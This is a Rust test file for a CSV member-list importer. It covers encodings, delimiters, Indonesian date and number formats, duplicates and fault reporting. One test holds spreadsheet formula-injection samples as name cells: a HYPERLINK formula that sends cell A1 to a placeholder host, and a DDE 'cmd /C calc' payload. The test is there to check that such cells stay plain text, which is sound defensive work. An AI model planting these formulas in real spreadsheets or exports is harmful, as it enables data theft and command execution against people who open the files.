//! Whole lists, as spreadsheets write them.

#![allow(clippy::unwrap_used, reason = "a list of the test that cannot be read has failed it")]

use entity::state::Role;
use entity::value::Reason;

use super::*;

const MEMBERS: &[u8] = include_bytes!("../../../../../tests/files/members-excel-id-semicolon-bom.csv");
const CELLS: &[u8] = include_bytes!("../../../../../tests/files/csv-cells-edge.csv");

fn text(list: &str) -> Result<Reading, Unreadable> {
    read(list.as_bytes(), &Choices::default())
}

/// Line, column, reason and value of each fault.
fn faults(reading: &Reading) -> Vec<(usize, &str, Why, &str)> {
    let told = |fault| {
        let Fault { line, column, why, value }: &Fault = fault;
        (*line, column.as_ref().map_or("", |column| &column.title), why.clone(), value.as_str())
    };
    reading.faults.iter().map(told).collect()
}

fn minor(row: &Row) -> Option<i64> {
    row.fee.map(|fee| fee.minor)
}

fn names(reading: &Reading) -> Vec<&str> {
    reading.rows.iter().map(|row| row.name.as_str()).collect()
}

#[test]
fn a_list_from_an_indonesian_spreadsheet_is_read_as_it_is_meant() {
    let reading = read(MEMBERS, &Choices::default()).unwrap();
    let found = &reading.found;
    assert_eq!((found.encoding, found.delimiter), (Encoding::Utf8, Delimiter::Semicolon));
    assert_eq!(found.decimal_mark, Some(DecimalMark::Comma));
    assert_eq!(found.date_order, Some(DateOrder::DayFirst));
    let columns = [
        ("No", Field::Number),
        ("Nama Lengkap", Field::Name),
        ("NIK", Field::NationalId),
        ("Tgl Lahir", Field::BirthDate),
        ("No. HP", Field::Phone),
        ("Email", Field::Email),
        ("Iuran (Rp)", Field::Fee),
        ("Tanggal Bergabung", Field::JoinedOn),
        ("Peran", Field::Role),
    ];
    let shown = found.columns.iter().map(|(column, field)| (column.title.as_str(), *field));
    assert_eq!(shown.collect::<Vec<_>>(), columns);

    assert_eq!(reading.row_count, 7);
    assert_eq!(reading.skipped, [(9, Skipped::Blank), (10, Skipped::Total)]);
    assert_eq!(
        faults(&reading),
        [
            (3, "NIK", Why::Value(Reason::ScientificNotation), "3,59918E+15"),
            (5, "No. HP", Why::Value(Reason::ScientificNotation), "8,12E+11"),
            (6, "Iuran (Rp)", Why::FeeNegative, "-25.000"),
            (7, "Email", Why::Repeated { first_line: 2 }, "SUMARNI@EXAMPLE.ORG"),
            (8, "Tgl Lahir", Why::DateImpossible, "31/06/1990"),
        ]
    );
    assert_eq!(names(&reading), ["Sumarni", "Ni Luh \"Ayu\" Sekar"]);
    let [first, third] = reading.rows.as_slice() else { panic!("{:?}", reading.rows) };
    assert_eq!((first.line, third.line), (2, 4));
    assert_eq!(first.national_id.as_deref(), Some("3599180000000011"));
    assert_eq!(first.birth_date.unwrap().to_string(), "1984-03-05");
    assert_eq!(first.phone.as_ref().unwrap().as_str(), "+6281200000001");
    assert_eq!(first.email.as_ref().unwrap().as_str(), "sumarni@example.org");
    assert_eq!(minor(first), Some(125_000_050));
    assert_eq!(first.joined_on.unwrap().to_string(), "2025-12-31");
    assert_eq!(first.role, Some(Role::Admin));
    assert_eq!(third.national_id, None);
    assert_eq!(third.phone.as_ref().unwrap().as_str(), "+6281200000003");
    assert_eq!((minor(third), third.role), (Some(5_000_000), Some(Role::Secretary)));
}

#[test]
fn the_same_list_mended_has_no_fault() {
    let list = String::from_utf8(MEMBERS.to_vec()).unwrap();
    let list = list
        .replace("3,59918E+15", "3599181211790002")
        .replace("8,12E+11", "081200000004")
        .replace("-25.000", "25.000")
        .replace("SUMARNI@EXAMPLE.ORG", "")
        .replace("31/06/1990", "30/06/1990");
    let reading = text(&list).unwrap();
    assert_eq!(faults(&reading), []);
    let budi = reading.rows.get(4).unwrap();
    assert_eq!(budi.email.as_ref().unwrap().as_str(), "budi+kader@example.org");
    assert_eq!(budi.phone.as_ref().unwrap().as_str(), "+6281200000005");
    let total: i64 = reading.rows.iter().filter_map(minor).sum();
    assert_eq!(total, 140_000_050 + 2 * 2_500_000);
    assert_eq!(reading.rows.iter().filter(|row| row.role == Some(Role::Member)).count(), 4);
}

#[test]
fn the_same_list_is_read_in_every_encoding_line_end_and_delimiter() {
    let list = String::from_utf8(MEMBERS.to_vec()).unwrap();
    let expected = read(MEMBERS, &Choices::default()).unwrap();
    let same = |bytes: &[u8], case: &str| {
        let reading = read(bytes, &Choices::default()).unwrap();
        assert_eq!(reading.rows, expected.rows, "{case}");
        assert_eq!(faults(&reading), faults(&expected), "{case}");
        assert_eq!(reading.skipped, expected.skipped, "{case}");
        reading.found
    };
    let utf16 = |write: fn(u16) -> [u8; 2]| list.encode_utf16().flat_map(write).collect::<Vec<u8>>();
    assert_eq!(same(&utf16(u16::to_le_bytes), "UTF-16LE").encoding, Encoding::Utf16Le);
    assert_eq!(same(&utf16(u16::to_be_bytes), "UTF-16BE").encoding, Encoding::Utf16Be);
    let bare = list.trim_start_matches('\u{feff}');
    same(bare.as_bytes(), "no mark");
    let (western, ..) = encoding_rs::WINDOWS_1252.encode(bare);
    assert_eq!(same(&western, "windows-1252").encoding, Encoding::Windows1252);
    same(list.replace("\r\n", "\n").as_bytes(), "LF");
    same(list.replace("\r\n", "\r").as_bytes(), "CR");
    same(list.trim_end().as_bytes(), "no final line end");

    // Quotes around cells that hold the delimiter, as every spreadsheet writes them.
    for delimiter in [Delimiter::Comma, Delimiter::Tab, Delimiter::Pipe] {
        let mut writer = csv::WriterBuilder::new().delimiter(delimiter.byte()).from_writer(Vec::new());
        for record in
            csv::ReaderBuilder::new().has_headers(false).delimiter(b';').from_reader(bare.as_bytes()).records()
        {
            writer.write_record(&record.unwrap()).unwrap();
        }
        assert_eq!(same(&writer.into_inner().unwrap(), "delimiter").delimiter, delimiter);
    }
}

#[test]
fn cells_with_quotes_line_breaks_and_formulas_stay_in_their_columns() {
    let choices = Choices { mapping: vec![(3, Field::Ignored)], ..Choices::default() };
    let reading = read(CELLS, &choices).unwrap();
    assert_eq!((reading.row_count, faults(&reading)), (10, vec![]));
    assert_eq!(reading.found.delimiter, Delimiter::Comma);
    assert_eq!(
        names(&reading),
        [
            "=HYPERLINK(\"http://example.org/?x=\"&A1,\"klik\")",
            "+Komunitas Hijau",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1",
            "=1+1",
            "\u{ff1d}1+1",
            "Dewi, \"Ibu RT\" Lestari",
            "-",
            "'=1+1",
            "Tono"
        ]
    );
    let lines: Vec<usize> = reading.rows.iter().map(|row| row.line).collect();
    assert_eq!(lines, [2, 3, 4, 5, 6, 7, 8, 10, 11, 12]);
    let note = |at: usize| reading.rows.get(at).unwrap().note.as_ref().unwrap().as_str();
    assert_eq!(note(6), "two\nlines");
    assert_eq!(note(7), "{\"key\": \"v,1\"}");
    assert_eq!(note(9), "no newline at end of file");
    assert_eq!(reading.rows.get(1).unwrap().phone.as_ref().unwrap().as_str(), "+6281200000022");
}

#[test]
fn columns_that_are_not_known_are_ignored_unless_chosen() {
    let reading = read(CELLS, &Choices::default()).unwrap();
    let fields: Vec<Field> = reading.found.columns.iter().map(|(_, field)| *field).collect();
    assert_eq!(fields, [Field::Ignored, Field::Name, Field::Phone, Field::Ignored, Field::Note]);
    assert!(reading.rows.iter().all(|row| row.fee.is_none()));
    let choices = Choices { mapping: vec![(3, Field::Fee)], ..Choices::default() };
    let reading = read(CELLS, &choices).unwrap();
    assert_eq!(reading.found.decimal_mark, Some(DecimalMark::Point));
    assert_eq!(faults(&reading), [(3, "amount", Why::FeeNegative, "-25000.00")]);
    let fees: Vec<_> = reading.rows.iter().take(2).map(|row| minor(row).unwrap()).collect();
    assert_eq!(fees, [1_000_000, 1]);
}

#[test]
fn codes_and_names_stay_text() {
    let list = "kode,nama,keterangan\n99.10,Kuala Ba'u,99.10\n99.1,Soka\"an Contoh,03°19'03.44\" N\n";
    let reading = text(list).unwrap();
    assert_eq!(names(&reading), ["Kuala Ba'u", "Soka\"an Contoh"]);
    let notes: Vec<_> = reading.rows.iter().map(|row| row.note.clone().unwrap().into_string()).collect();
    assert_eq!(notes, ["99.10", "03°19'03.44\" N"]);
}

#[test]
fn a_separator_line_is_obeyed_and_no_row() {
    let list = "sep=;\r\nNama;Iuran\r\nRauf, S.Pd.I;1.250.000\r\n";
    let reading = text(list).unwrap();
    assert_eq!((reading.found.delimiter, names(&reading)), (Delimiter::Semicolon, vec!["Rauf, S.Pd.I"]));
    assert_eq!(reading.rows.first().map(|row| row.line), Some(3));
    assert!(text("\u{feff}\"sep=|\"\nNama|HP\nSiti|081200000001").is_ok());
    assert!(text("SEP=,,,\nNama,HP\nSiti,081200000001").is_ok());
    let cashbook = "sep=;\r\nTanggal;Uraian;Rekening\r\n01/06/2026;Saldo awal;Tunai\r\n";
    let found = vec!["Tanggal".to_owned(), "Uraian".to_owned(), "Rekening".to_owned()];
    assert_eq!(text(cashbook), Err(Unreadable::NameColumnMissing { found }));
}

#[test]
fn a_list_of_names_alone_has_commas_in_its_names() {
    let reading = text("Nama\nRauf, S.Pd.I\n\"Sari, Ni Luh\"").unwrap();
    assert_eq!(names(&reading), ["Rauf, S.Pd.I", "Sari, Ni Luh"]);
}

#[test]
fn a_list_without_members_has_nothing_to_import() {
    for list in ["", "\u{feff}", "\n\n", "Nama;HP", "Nama;HP\r\n", "Nama;HP\n;\n\nJumlah;\n", "sep=;\n"] {
        assert_eq!(text(list), Err(Unreadable::NothingToImport), "{list:?}");
    }
}

#[test]
fn blank_and_total_lines_are_counted_and_never_members() {
    let list = "\nNo,Nama,Iuran\r\n\r\n1,Siti,5000\r\n,,\r\n \u{a0},,\r\n\r\n2,Jumlah,5000\n,TOTAL:,\n\
                Total iuran 2 orang,,5000\n,Jumlahwati,0\n\n\n";
    let reading = text(list).unwrap();
    assert_eq!(names(&reading), ["Siti", "Jumlahwati"]);
    let (blank, total) = (Skipped::Blank, Skipped::Total);
    assert_eq!(
        reading.skipped,
        [(3, blank), (5, blank), (6, blank), (7, blank), (8, total), (9, total), (10, total), (12, blank), (13, blank)]
    );
    assert_eq!(faults(&reading), []);
}

#[test]
fn a_row_without_a_name_is_at_fault() {
    for name in ["", "   ", "\u{a0}", "\u{200b}\u{200b}\u{200b}", "\u{3164}", "\u{301}\u{301}"] {
        let reading = text(&format!("Nama,HP\n{name},081200000001")).unwrap();
        assert_eq!(reading.faults.first().map(|fault| fault.why.clone()), Some(Why::Value(Reason::Empty)), "{name:?}");
        assert!(reading.rows.is_empty());
    }
    let reading = text("Nama\nعلی\u{200c}رضا").unwrap();
    assert_eq!(names(&reading), ["علی\u{200c}رضا"]);
}

#[test]
fn a_nul_is_a_fault_of_its_cell() {
    let reading = text("Nama,Catatan\nab\0cd,x\nSiti,a\0b\n").unwrap();
    assert_eq!(
        faults(&reading),
        [
            (2, "Nama", Why::Value(Reason::ForbiddenCharacter), "ab\u{fffd}cd"),
            (3, "Catatan", Why::Value(Reason::ForbiddenCharacter), "a\u{fffd}b")
        ]
    );
}

#[test]
fn who_stands_in_a_list_twice_is_at_fault_the_second_time() {
    let list = "Nama;NIK;Tgl Lahir;HP\n\
                Siti;3599180000000011;01/01/1990;081200000001\n\
                Ayu;3599180000000011;;\n\
                SITI;;01/01/1990;\n\
                siti;;;0812-0000-0001\n\
                Budi;;;081200000001\n\
                Siti;;02/02/1990;\n\
                Tono;;;\n\
                tono;;;\n";
    let reading = text(list).unwrap();
    let places: Vec<_> = faults(&reading).into_iter().map(|(line, column, why, _)| (line, column, why)).collect();
    let again = |first_line| Why::Repeated { first_line };
    assert_eq!(places, [(3, "NIK", again(2)), (4, "Tgl Lahir", again(2)), (5, "HP", again(2)), (9, "Nama", again(8))]);
    assert_eq!(names(&reading), ["Siti", "Budi", "Siti", "Tono"]);
    // Two whose numbers were lost may be two people.
    let reading = text("Nama;HP\nSiti;8,12E+11\nSiti;8,13E+11").unwrap();
    assert!(faults(&reading).iter().all(|(.., why, _)| *why == Why::Value(Reason::ScientificNotation)));
}

#[test]
fn an_order_of_dates_that_nothing_tells_must_be_chosen() {
    let list = "Name,Date of birth,Joined\nSiti,05/03/1984,01/02/2026\nBudi,08/08/1990,02/02/2026";
    let reading = text(list).unwrap();
    assert_eq!(reading.found.date_order, None);
    assert_eq!(
        faults(&reading),
        [
            (2, "Date of birth", Why::DateOrderAmbiguous, "05/03/1984"),
            (2, "Joined", Why::DateOrderAmbiguous, "01/02/2026")
        ]
    );
    assert_eq!(names(&reading), ["Budi"], "whose day and month are one");
}

#[test]
fn a_number_format_that_nothing_tells_must_be_chosen() {
    let list = "Nama;Iuran\nSiti;12.000\nBudi;15.000\nAyu;5000";
    let reading = text(list).unwrap();
    assert_eq!(reading.found.decimal_mark, None);
    assert_eq!(faults(&reading), [(2, "Iuran", Why::NumberFormatAmbiguous, "12.000")]);
    assert_eq!(names(&reading), ["Ayu"]);
    let choices = Choices { decimal_mark: Some(DecimalMark::Comma), ..Choices::default() };
    let reading = read(list.as_bytes(), &choices).unwrap();
    let fees: Vec<_> = reading.rows.iter().map(minor).collect();
    assert_eq!(fees, [Some(1_200_000), Some(1_500_000), Some(500_000)]);
}
